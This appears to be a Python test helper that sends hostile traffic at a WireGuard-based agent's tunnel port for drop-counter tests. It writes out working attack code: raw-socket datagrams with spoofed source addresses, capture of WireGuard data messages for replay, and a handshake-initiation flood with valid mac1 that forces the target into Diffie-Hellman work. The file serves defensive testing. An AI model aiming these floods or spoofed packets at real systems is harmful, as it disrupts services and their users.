#!/usr/bin/python3
"""Sends hostile datagrams at a CLADNet agent's tunnel port, for the drop-counter tests.

Raw IPv4 sockets let the test pick any source address and port, as an attacker on the path
could. Usage:
  attack.py raw SRC SPORT DST DPORT HEX [N]    one datagram with payload HEX (N datagrams
                                                from ports SPORT, SPORT+1, ...)
  attack.py capture IFACE SRC DPORT             wait for one WireGuard data message from SRC
                                                to port DPORT on IFACE; print "SPORT HEX"
  attack.py flood DST DPORT PUBKEY SECONDS [RATE]
                                                send WireGuard handshake initiations to DST for
                                                SECONDS, RATE a second (as fast as possible
                                                without RATE): correct mac1 for the base64
                                                public key PUBKEY, random ephemeral, static and
                                                timestamp (so the victim does a Diffie-Hellman
                                                before it can refuse them), no mac2; print
                                                "SENT COOKIE_REPLIES" (totals) every second
"""
import base64
import hashlib
import os
import select
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_packet(src, sport, dst, dport, payload):
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def send(src, sport, dst, dport, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(udp_packet(src, sport, dst, dport, payload), (dst, 0))


def capture_wg_data(iface, src, dport):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    s.settimeout(20)
    while True:
        frame = s.recv(65535)
        ip = frame[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != src:
            continue
        sport, dp = struct.unpack("!HH", ip[ihl:ihl + 4])
        payload = ip[ihl + 8:]
        if dp == dport and payload[:4] == b"\x04\0\0\0" and len(payload) > 32:
            return sport, payload


def initiation(mac1_key):
    """A type-1 message: sender index, ephemeral, encrypted static and timestamp all random."""
    body = struct.pack("<I", 1) + os.urandom(4) + os.urandom(32) + os.urandom(48) + os.urandom(28)
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    return body + mac1 + bytes(16)


def flood(dst, dport, pubkey, seconds, rate=None):
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(pubkey)).digest()
    messages = [initiation(mac1_key) for _ in range(512)]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    sent = cookies = 0
    start = time.monotonic()
    deadline = start + seconds
    report = start + 1
    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        if now >= report:
            print(sent, cookies, flush=True)
            report += 1
        # Paced: catch up with RATE * elapsed, at most 64 at a time.
        batch = 64 if rate is None else min(64, int(rate * (now - start)) - sent)
        if batch <= 0:
            time.sleep(0.001)
        for m in messages[sent % 512:][:max(batch, 0)]:
            try:
                s.sendto(m, (dst, dport))
                sent += 1
            except BlockingIOError:
                select.select([], [s], [], 0.01)
        while True:
            try:
                reply = s.recv(2048)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if reply[:4] == b"\x03\0\0\0" and len(reply) == 64:
                cookies += 1
    print(sent, cookies, flush=True)


def main():
    mode = sys.argv[1]
    if mode == "raw":
        src, sport, dst, dport, hexdata = sys.argv[2:7]
        count = int(sys.argv[7]) if len(sys.argv) > 7 else 1
        for i in range(count):
            send(src, int(sport) + i, dst, int(dport), bytes.fromhex(hexdata))
    elif mode == "capture":
        iface, src, dport = sys.argv[2:5]
        sport, payload = capture_wg_data(iface, src, int(dport))
        print(sport, payload.hex(), flush=True)
    elif mode == "flood":
        dst, dport, pubkey, seconds = sys.argv[2:6]
        rate = float(sys.argv[6]) if len(sys.argv) > 6 else None
        flood(dst, int(dport), pubkey, float(seconds), rate)


if __name__ == "__main__":
    main()
